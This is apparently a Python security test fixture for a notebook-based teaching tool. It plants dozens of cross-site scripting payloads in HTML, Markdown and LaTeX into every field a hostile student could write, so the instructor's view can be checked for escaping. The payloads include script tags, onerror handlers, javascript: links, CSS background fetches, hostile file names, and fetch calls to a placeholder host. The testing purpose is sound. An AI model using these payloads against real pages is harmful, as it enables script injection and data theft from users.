"""What a hostile learner may write for an instructor's browser; whatever of it runs or is fetched says its name."""

# ruff: noqa: E501 - one a line
from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.learners import Learner, Notebook, cell_of, worst_answer

ELSEWHERE = "canary.invalid"


def _run(name: str) -> str:
    return f"window.canary='{name}';fetch('http://{ELSEWHERE}/{name}');alert('{name}')"


def _fetch(name: str) -> str:
    return f"http://{ELSEWHERE}/{name}"


MARKUP = {
    "script": f"<script>{_run('script')}</script>",
    "script from elsewhere": f"<script src={_fetch('script-src')}></script>",
    "script in capitals, unclosed": f"<SCRIPT/x>{_run('capitals')}//",
    "script in a comment": f"<!--><script>{_run('comment')}</script>-->",
    "script in a style": f'<style><style/><img src=x onerror="{_run("style-mutation")}">',
    "script in a noscript": f'<noscript><p title="</noscript><img src=x onerror={_run("noscript")}>">',
    "script in math": f'<math><mtext><table><mglyph><style><img src=x onerror="{_run("mglyph")}">',
    "math link": f'<math><maction actiontype=statusline xlink:href="javascript:{_run("maction")}">x</maction></math>',
    "script in a template": f"<template><script>{_run('template')}</script></template>",
    "split script": f"<scr<script>ipt>{_run('split')}</scr</script>ipt>",
    "typed as math": f'<script type="math/tex">\\href{{javascript:{_run("math-tex")}}}{{x}}</script>',
    "picture that fails": f'<img src=x onerror="{_run("onerror")}">',
    "picture without spaces": f"<img/src=x/onerror={_run('no-spaces')}>",
    "picture from elsewhere": f"<img src={_fetch('img')}>",
    "picture without a scheme": f"<img src=//{ELSEWHERE}/img-no-scheme>",
    "picture with backslashes": f"<img src='\\\\{ELSEWHERE}/img-backslash'>",
    "picture with a tab": f"<img src='ht\ttp://{ELSEWHERE}/img-tab'>",
    "picture set": f"<img srcset='{_fetch('srcset')} 1x'><picture><source srcset={_fetch('source')}><img></picture>",
    "svg that loads": f'<svg onload="{_run("svg-onload")}"></svg>',
    "svg animation": f'<svg><animate onbegin="{_run("animate")}" attributeName=x dur=1s></svg>',
    "svg use": f"<svg><use href='{_fetch('use')}#x'/><image href='{_fetch('image')}'/></svg>",
    "details that open": f'<details open ontoggle="{_run("ontoggle")}">x</details>',
    "focus at once": f'<input autofocus onfocus="{_run("autofocus")}"><a tabindex=0 autofocus onfocus={_run("a")}>x</a>',
    "animation handler": f"<p style='animation:x' onanimationstart=\"{_run('animation')}\">x</p>",
    "media": f'<video src={_fetch("video")} onerror="{_run("video")}"></video><audio src={_fetch("audio")} autoplay>',
    "frame": f'<iframe srcdoc="<script>{_run("srcdoc")}</script>"></iframe><iframe src={_fetch("iframe")}></iframe>',
    "frame that runs": f'<iframe src="javascript:{_run("iframe-js")}"></iframe>',
    "object and embed": f"<object data={_fetch('object')}></object><embed src={_fetch('embed')}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_fetch('refresh')}'>",
    "base": f"<base href='http://{ELSEWHERE}/'>",
    "stylesheet": f"<link rel=stylesheet href={_fetch('stylesheet')}><link rel=prefetch href={_fetch('prefetch')}>",
    "style import": f"<style>@import '{_fetch('import')}';</style>",
    "style that tells": f"<style>input[value]{{background:url({_fetch('selector')})}} *{{background:url({_fetch('all')})}}</style>",
    "style of pandas with more": f"<style scoped>.dataframe{{}}</style><style>p{{background:url({_fetch('pandas')})}}</style>",
    "style attribute": f'<p style="background:url({_fetch("style-attribute")})">x</p>',
    "style over all": "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "table background": f"<table background={_fetch('background')}><tr><td background={_fetch('td')}>x</table>",
    "link that runs": f'<a href="javascript:{_run("href")}">x</a>',
    "link in letters": f'<a href="&#106;ava&#115;cript&colon;{_run("href-letters")}">x</a>',
    "link with a line": f'<a href="java\nscript:{_run("href-line")}">x</a><a href="\x01javascript:{_run("href-control")}">x</a>',
    "link that is a page": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "form": f'<form action="javascript:{_run("form")}"><button formaction="javascript:{_run("formaction")}">x</button></form>',
    "out of the cell": f"</div></div></div></pre></textarea></script><script>{_run('out')}</script>",
    "polyglot": f"'\"--></style></script><img src=x onerror={_run('polyglot')}>${{{{7*7}}}}",
}

MARKDOWN = {
    "link": f"[x](javascript:{_run('md-link').replace('(', '%28').replace(')', '%29')})",
    "link in brackets": "[x](<javascript:alert(1)>)",
    "link in letters": "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](java&Tab;script:alert(1))",
    "link by reference": "[x][r] [r]\n\n[r]: javascript:alert(1)",
    "link by reference, in letters": "[x][s] [s]\n\n[s]: &#x6A;avascript:alert(1)",
    "link that names itself": "<javascript:alert(1)> <JaVaScRiPt:alert(1)>",
    "link to a page": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x)",
    "title": f"[x](http://127.0.0.1/ '\" onmouseover=\"{_run('title')}')",
    "picture": f"![x]({_fetch('md-img')}) ![x](<{_fetch('md-img-brackets')}>) ![x\ny]( {_fetch('md-img-lines')})",
    "picture without a scheme": f"![x](//{ELSEWHERE}/md-no-scheme) ![x](\\\\{ELSEWHERE}/md-backslash)",
    "picture by reference": f"![x][p] ![p] ![p][]\n\n[p]: {_fetch('md-img-reference')}",
    "picture in a link": f"[![x]({_fetch('md-img-link')})](http://127.0.0.1/)",
    "picture that runs": f'![x](x" onerror="{_run("md-onerror")})',
    "code": f"`<script>{_run('code')}</script>`\n\n```html\n<script>{_run('fence')}</script>\n```",
    "language of code": f'```"><script>{_run("language")}</script>\nx\n```',
    "table": f"|a|b|\n|-|-|\n|<script>{_run('table')}</script>|<img src=x onerror={_run('cell')}>|",
    "heading": f'# x <img src=x onerror={_run("heading")}> {{#" onclick=x}}',
}

LATEX = {
    "link": f"$\\href{{javascript:{_run('tex-href')}}}{{x}}$ $\\unicode{{x41}}$",
    "style": f"$\\style{{background-image:url({_fetch('tex-style')})}}{{x}}$",
    "class and id": "$\\class{navbar}{x} \\cssId{notebook}{y}$",
    "picture": f"$$\\require{{html}}\\style{{background:url({_fetch('tex-require')})}}{{x}}$$",
    "html": f'$\\text{{<img src=x onerror="{_run("tex-text")}">}}$ \\(<script>{_run("tex-parens")}</script>\\)',
    "image": f"$\\includegraphics{{{_fetch('tex-graphics')}}}$ $\\data{{x}}{{y}}$",
    "loop": "$\\def\\x{\\x\\x}\\x$",
    "math in html": f"\\begin{{equation}}</script><script>{_run('equation')}</script>\\end{{equation}}",
}

ALL = {**MARKUP, **{f"Markdown {name}": text for name, text in MARKDOWN.items()},
       **{f"LaTeX {name}": text for name, text in LATEX.items()}}  # fmt: skip

STUDENT = "<img src=x onerror=\"window.canary='student'\">"
FILES = (
    "<img src=x onerror=alert(1)>.csv",
    '"><script>alert(1)<script>.txt',
    "javascript:alert(1).md",
    "a'b&amp;<b>.html",
)

_DISPLAY = """
import json
for text in json.loads({texts!r}):
    for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/plain",
                 "application/vnd.jupyter.widget-view+json", "image/png", "application/pdf", "application/json",
                 "application/geo+json", "application/vnd.vega.v5+json"):
        display({{kind: text, "text/plain": text}}, raw=True)
"""
_PRINT = """
import json, sys
for text in json.loads({texts!r}):
    print(text)
    print("\\x1b[31;1m" + text + "\\x1b[0m", "\\x1b]8;;javascript:alert(1)\\x1b\\\\x\\x1b]8;;\\x1b\\\\", file=sys.stderr)
"""
_RAISE = """
import json
Named = type("<script>alert('ename')</script>", (Exception,), {{}})
raise Named("\\x1b[31m" + "\\n".join(json.loads({texts!r})))
"""


def hostile(learner: Learner) -> None:
    """Write all of it into every place a learner can write to."""
    learner.play("two-weeks-later", worst_answer)
    _record(learner.folder / "answers.json")
    learner.edit(_notebook)
    for name in FILES:
        (learner.folder / name).write_text(MARKUP["script"], encoding="utf-8")
    (learner.folder / "page.html").write_text(MARKUP["script"], encoding="utf-8")
    (learner.folder / "timestamp.txt").write_text(MARKUP["script"], encoding="utf-8")


def _record(path: Path) -> None:
    data = json.loads(path.read_text(encoding="utf-8"))
    text = "".join(MARKUP.values())
    play = data["plays"][0]
    data["plays"] += [{**play, "task": text, "choices": []}, {**play, "ending": text, "seed": text}]
    data["plays"].append({**play, "choices": [{**play["choices"][0], "answer": text, "scene": text, "at": text}]})
    data["remarks"] = [{"task": "two-weeks-later", "scene": text, "option": text, "text": text}]
    data["lesson"] = text
    data[text] = text
    path.write_text(json.dumps(data), encoding="utf-8")


def _notebook(notebook: Notebook) -> None:
    said = "\n\n".join(ALL.values())
    for task in ("surprised", "by-whose-leave"):
        cell_of(notebook, task)["source"] = said
    texts = json.dumps(list(ALL.values()))
    programs = {"q1": _DISPLAY, "q2": _PRINT, "q3": _RAISE}
    for question, program in programs.items():
        cell_of(notebook, f"figures-{question}-answer")["source"] = program.format(texts=texts)
    cell_of(notebook, "figures-q4-answer")["source"] = f"q4 = {said!r}\nq5 = {{ {said!r}: {said!r} }}"
    cell_of(notebook, "figures-q6-answer")["source"] = f"# {'#'.join(MARKUP.values())}".replace("\n", " ")
    for at, text in enumerate(ALL.values()):
        extra: dict[str, Any] = {"cell_type": "markdown", "id": f"m{at}", "metadata": {}, "source": text}
        extra["attachments"] = {text: {"image/svg+xml": text}}
        notebook["cells"].append(extra)
    notebook["cells"].append({"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": said})
    for cell in notebook["cells"]:
        cell["metadata"].update({said[:500]: said, "tags": [said], "name": said, "scrolled": said, "trusted": True})
        if cell["cell_type"] == "code":
            shown = {"text/html": said, "application/javascript": said}
            cell["outputs"] = [{"output_type": "display_data", "metadata": {"isolated": True}, "data": shown}]
    notebook["metadata"].update(title=said, authors=[{"name": said}], widgets={"state": said}, celltoolbar=said)
    notebook["metadata"]["kernelspec"] = {"name": "python3", "display_name": said, "language": said}
    notebook["metadata"]["language_info"] = {"name": said, "file_extension": said, "codemirror_mode": said}
